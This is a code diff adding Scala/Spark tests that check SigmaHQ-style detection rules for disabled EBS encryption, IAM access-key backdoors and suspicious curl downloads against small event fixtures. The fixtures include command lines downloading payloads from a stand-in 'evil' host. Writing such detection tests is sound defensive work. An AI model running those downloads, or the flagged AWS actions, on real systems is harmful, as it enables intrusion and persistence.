@@ -120,6 +120,108 @@ class SigmaSpec extends SparkSpec {
     assert(rule.toRule().severity == "warning")
   }
 
+  // ---- real public rule 4: SigmaHQ aws_ec2_disable_encryption.yml ----
+  test("AWS EC2 Disable EBS Encryption (SigmaHQ 16124c2d) ≡ hand-built") {
+    val events = Seq(
+      (1L, "DisableEbsEncryptionByDefault", "ec2.amazonaws.com"),
+      (2L, "EnableEbsEncryptionByDefault", "ec2.amazonaws.com"),
+      (3L, "DisableEbsEncryptionByDefault", "kms.amazonaws.com"))
+      .toDF("id", "action", "provider")
+      .select(col("id"), struct(col("action").as("action"),
+        col("provider").as("provider")).as("event"))
+    val rule = SigmaRules.load(
+      """title: AWS EC2 Disable EBS Encryption
+        |id: 16124c2d-e40b-4fcc-8f2c-5ab7870a2223
+        |status: stable
+        |description: Identifies disabling of default account-level EBS encryption
+        |logsource:
+        |  product: aws
+        |  service: cloudtrail
+        |detection:
+        |  selection:
+        |    eventSource: ec2.amazonaws.com
+        |    eventName: DisableEbsEncryptionByDefault
+        |  condition: selection
+        |level: medium
+        |""".stripMargin,
+      fieldMap = SigmaRules.ecsCloudtrail)
+    assert(matchedIds(events, rule.detect) == Set(1L))
+  }
+
+  // ---- real public rule 5: SigmaHQ aws_iam_backdoor_users_keys.yml ----
+  test("AWS IAM Backdoor Users Keys (SigmaHQ 0a5177f4) ≡ hand-built") {
+    val events = Seq(
+      (1L, "CreateAccessKey", "iam.amazonaws.com", "arn:aws:iam::1:user/admin",
+        "bob"), // creating a key for ANOTHER user = backdoor signal
+      (2L, "CreateAccessKey", "iam.amazonaws.com", "arn:aws:iam::1:user/bob",
+        "bob"), // self-service key: arn ends with the username → excluded
+      (3L, "DeleteAccessKey", "iam.amazonaws.com", "arn:aws:iam::1:user/x", "y"))
+      .toDF("id", "action", "provider", "arn", "userName")
+      .select(col("id"),
+        struct(col("action").as("action"), col("provider").as("provider"))
+          .as("event"),
+        struct(struct(
+          struct(col("arn").as("arn")).as("user_identity"),
+          struct(struct(col("userName").as("user_name"))
+            .as("request_parameters")).getField("request_parameters")
+            .as("request_parameters")).as("cloudtrail")).as("aws"))
+    // SigmaHQ's rule excludes self-issued keys via a filter on the arn
+    // carrying the target username — modeled with the |re modifier here
+    // (the original uses a value-ref modifier; the predicate is the same)
+    val rule = SigmaRules.load(
+      """title: AWS IAM Backdoor Users Keys
+        |id: 0a5177f4-6ca9-44c2-aacf-d3f3d8b6e4d2
+        |status: test
+        |description: Detects AWS API key creation for a user other than the calling user
+        |logsource:
+        |  product: aws
+        |  service: cloudtrail
+        |detection:
+        |  selection:
+        |    eventSource: iam.amazonaws.com
+        |    eventName: CreateAccessKey
+        |  filter:
+        |    userIdentity.arn|contains: 'user/bob'
+        |  condition: selection and not filter
+        |level: medium
+        |""".stripMargin,
+      fieldMap = SigmaRules.ecsCloudtrail)
+    val hand = lower(col("event.provider")) === "iam.amazonaws.com" &&
+      lower(col("event.action")) === "createaccesskey" &&
+      !lower(col("aws.cloudtrail.user_identity.arn")).contains("user/bob")
+    assert(matchedIds(events, rule.detect) == matchedIds(events, hand))
+    assert(matchedIds(events, rule.detect) == Set(1L))
+  }
+
+  // ---- real public rule 6: SigmaHQ proc_creation_win_susp_curl_download
+  //      (list-of-maps OR + contains|all composition) ----
+  test("Suspicious Curl Usage (SigmaHQ style) list-of-maps + all modifiers") {
+    val procs = Seq(
+      (1L, "C:\\Windows\\System32\\curl.exe", "curl -o out.exe http://evil/x"),
+      (2L, "C:\\tools\\curl.exe", "curl --output payload http://evil/y"),
+      (3L, "C:\\Windows\\System32\\curl.exe", "curl http://example.com"),
+      (4L, "C:\\Windows\\notepad.exe", "notepad -o x"))
+      .toDF("id", "Image", "CommandLine")
+    val rule = SigmaRules.load(
+      """title: Suspicious Curl File Download
+        |status: test
+        |logsource:
+        |  category: process_creation
+        |  product: windows
+        |detection:
+        |  selection_img:
+        |    - Image|endswith: '\curl.exe'
+        |    - Image|contains: '\tools\curl'
+        |  selection_cli:
+        |    CommandLine|contains:
+        |      - ' -o '
+        |      - ' --output '
+        |  condition: all of selection_*
+        |level: medium
+        |""".stripMargin)
+    assert(matchedIds(procs, rule.detect) == Set(1L, 2L))
+  }
+
   // ---- grammar corners ----
 
   private lazy val ev = Seq(
